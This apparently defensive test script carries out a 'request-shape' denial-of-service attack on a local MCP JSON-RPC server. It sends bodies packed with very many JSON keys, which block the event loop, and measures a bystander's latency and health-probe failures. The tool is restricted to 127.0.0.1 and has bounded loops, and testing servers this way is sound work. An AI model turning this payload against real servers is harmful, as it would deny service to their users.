/**
 * The request-shape attack: small-enough JSON-RPC requests (under the body
 * limit) whose `_meta` or `arguments` carry very many keys, sent back to
 * back. CPU per request follows the shape of the JSON, not its size, so
 * without key and node limits each such request blocks the event loop for
 * seconds and every other client waits (and `/healthz` fails, so a liveness
 * probe restarts the process).
 *
 * {@link requestShapeAttack} runs it against a server on 127.0.0.1 (e.g.
 * `taskvisor serve --demo`) and reports what a bystander saw: its latency
 * idle and under attack, and whether `/healthz` stayed 200. Every loop is
 * bounded in count and in time.
 *
 *   node --import tsx scripts/attack/requestShape.ts http://127.0.0.1:3000/mcp [meta|arguments|array] [seconds] [count]
 */

/** Where the bulk goes: keys in `_meta`, keys in `arguments`, or items of an array in `arguments`. */
export type ShapeTarget = 'meta' | 'arguments' | 'array';

export interface RequestShapeOptions {
  /** Where the keys go. Default `meta`. */
  target?: ShapeTarget;
  /** Keys (or array items) in the hostile value. Default 200,000 (a 2.3 MB body of keys). */
  keys?: number;
  /** How long the attack runs, ms (at most 60 s). Default 20 s. */
  durationMs?: number;
  /** Most hostile requests sent (at most 10,000). Default 1,000. */
  maxRequests?: number;
  /** Hostile requests in flight at once (at most 8). Default 1: back to back. */
  concurrency?: number;
  /** Bystander requests measured idle, before the attack (at most 1,000). Default 50. */
  idleSamples?: number;
  /** Path of the liveness route on the same origin. Default `/healthz`. */
  healthPath?: string;
  /** Extra headers of the hostile requests (e.g. the attacker's `authorization`). */
  headers?: Record<string, string>;
  /** Extra headers of the bystander's requests (e.g. another principal's `authorization`). */
  bystanderHeaders?: Record<string, string>;
}

export interface LatencySummary {
  samples: number;
  p50Ms: number;
  worstMs: number;
}

export interface RequestShapeReport {
  target: ShapeTarget;
  /** Bytes of one hostile body. */
  bodyBytes: number;
  idle: LatencySummary;
  underAttack: LatencySummary;
  /** Hostile requests sent, and the HTTP statuses they got (status → count). */
  attackRequests: number;
  attackStatuses: Record<string, number>;
  /** One hostile reply's JSON-RPC error, if it had one. */
  attackError: { code: number; message: string } | undefined;
  /** Whether every `/healthz` probe during the attack answered 200. */
  healthAlways200: boolean;
  /** Probes that did not answer 200 (a status, or `error`). */
  healthFailures: number;
  healthProbes: number;
}

const PROTOCOL_VERSION = '2026-07-28';
const ENVELOPE = {
  'io.modelcontextprotocol/protocolVersion': PROTOCOL_VERSION,
  'io.modelcontextprotocol/clientInfo': { name: 'attack-request-shape', version: '0.0.0' },
  'io.modelcontextprotocol/clientCapabilities': {},
};
/** Latency of a bystander request that never returns is cut to this, ms. */
const REQUEST_TIMEOUT_MS = 30_000;

const HEADERS = {
  'content-type': 'application/json',
  accept: 'application/json, text/event-stream',
  'mcp-protocol-version': PROTOCOL_VERSION,
  'mcp-method': 'tools/call',
  'mcp-name': 'echo',
};

/** The hostile body: a `tools/call` of `echo` with `count` keys in `_meta` or `arguments`, or `count` items in an array. */
export function hostileBody(target: ShapeTarget, count: number): string {
  const many =
    target === 'array'
      ? `{"items":[${new Array<string>(count).fill('0').join(',')}]}`
      : '{' + Array.from({ length: count }, (_, i) => `"k${i}":0`).join(',') + '}';
  const meta = JSON.stringify(ENVELOPE);
  const params =
    target === 'meta'
      ? `{"name":"echo","arguments":{"text":"x"},"_meta":${meta.slice(0, -1)},${many.slice(1)}}`
      : `{"name":"echo","arguments":${many.slice(0, -1)},"text":"x"},"_meta":${meta}}`;
  return `{"jsonrpc":"2.0","id":"attack","method":"tools/call","params":${params}}`;
}

const BYSTANDER_BODY = JSON.stringify({
  jsonrpc: '2.0',
  id: 'bystander',
  method: 'tools/call',
  params: { name: 'echo', arguments: { text: 'hello' }, _meta: ENVELOPE },
});

const clamp = (value: number | undefined, fallback: number, max: number) => Math.min(Math.max(1, Math.floor(value ?? fallback)), max);

function loopbackOnly(url: URL): void {
  if (url.hostname !== '127.0.0.1') throw new RangeError(`requestShapeAttack targets 127.0.0.1 only, not ${url.hostname}`);
}

async function timedPost(
  url: string,
  body: string,
  extra: Record<string, string> = {},
): Promise<{ ms: number; status: number; text: string }> {
  const start = performance.now();
  try {
    const response = await fetch(url, {
      method: 'POST',
      headers: { ...HEADERS, ...extra },
      body,
      signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
    });
    const text = await response.text();
    return { ms: performance.now() - start, status: response.status, text };
  } catch {
    return { ms: performance.now() - start, status: 0, text: '' };
  }
}

function summary(latencies: number[]): LatencySummary {
  const sorted = [...latencies].sort((a, b) => a - b);
  const round = (ms: number | undefined) => Math.round((ms ?? 0) * 10) / 10;
  return { samples: sorted.length, p50Ms: round(sorted[Math.floor(sorted.length / 2)]), worstMs: round(sorted.at(-1)) };
}

/** Runs the attack against the MCP endpoint `baseUrl` (e.g. `http://127.0.0.1:3000/mcp`). */
export async function requestShapeAttack(baseUrl: string, options: RequestShapeOptions = {}): Promise<RequestShapeReport> {
  const url = new URL(baseUrl);
  loopbackOnly(url);
  const target = options.target ?? 'meta';
  const durationMs = clamp(options.durationMs, 20_000, 60_000);
  const maxRequests = clamp(options.maxRequests, 1_000, 10_000);
  const concurrency = clamp(options.concurrency, 1, 8);
  const healthUrl = new URL(options.healthPath ?? '/healthz', url).href;
  const body = hostileBody(target, clamp(options.keys, 200_000, 1_000_000));

  const idle: number[] = [];
  for (let i = 0; i < clamp(options.idleSamples, 50, 1_000); i++)
    idle.push((await timedPost(url.href, BYSTANDER_BODY, options.bystanderHeaders)).ms);

  const deadline = performance.now() + durationMs;
  const running = () => performance.now() < deadline;
  let sent = 0;
  const statuses: Record<string, number> = {};
  let attackError: RequestShapeReport['attackError'];
  const attacker = async () => {
    while (running() && sent < maxRequests) {
      sent++;
      const reply = await timedPost(url.href, body, options.headers);
      statuses[reply.status] = (statuses[reply.status] ?? 0) + 1;
      if (attackError === undefined) attackError = errorOf(reply.text);
    }
  };
  const underAttack: number[] = [];
  const bystander = async () => {
    for (let i = 0; running() && i < 100_000; i++)
      underAttack.push((await timedPost(url.href, BYSTANDER_BODY, options.bystanderHeaders)).ms);
  };
  let healthProbes = 0;
  let healthFailures = 0;
  const prober = async () => {
    for (let i = 0; running() && i < 10_000; i++) {
      healthProbes++;
      const status = await fetch(healthUrl, { signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS) }).then(
        (response) => (response.body?.cancel(), response.status),
        () => 0,
      );
      if (status !== 200) healthFailures++;
      await new Promise((resolve) => setTimeout(resolve, 250));
    }
  };
  await Promise.all([...Array.from({ length: concurrency }, attacker), bystander(), prober()]);
  return {
    target,
    bodyBytes: Buffer.byteLength(body),
    idle: summary(idle),
    underAttack: summary(underAttack),
    attackRequests: sent,
    attackStatuses: statuses,
    attackError,
    healthAlways200: healthFailures === 0,
    healthFailures,
    healthProbes,
  };
}

function errorOf(text: string): { code: number; message: string } | undefined {
  try {
    const error = (JSON.parse(text) as { error?: { code: number; message: string } }).error;
    return error ? { code: error.code, message: error.message.slice(0, 200) } : undefined;
  } catch {
    return undefined;
  }
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const [base = 'http://127.0.0.1:3000/mcp', target = 'meta', seconds = '20', count] = process.argv.slice(2);
  if (target !== 'meta' && target !== 'arguments' && target !== 'array') throw new RangeError('target: meta, arguments or array');
  const report = await requestShapeAttack(base, { target, durationMs: Number(seconds) * 1000, ...(count ? { keys: Number(count) } : {}) });
  console.log(JSON.stringify(report, null, 2));
}
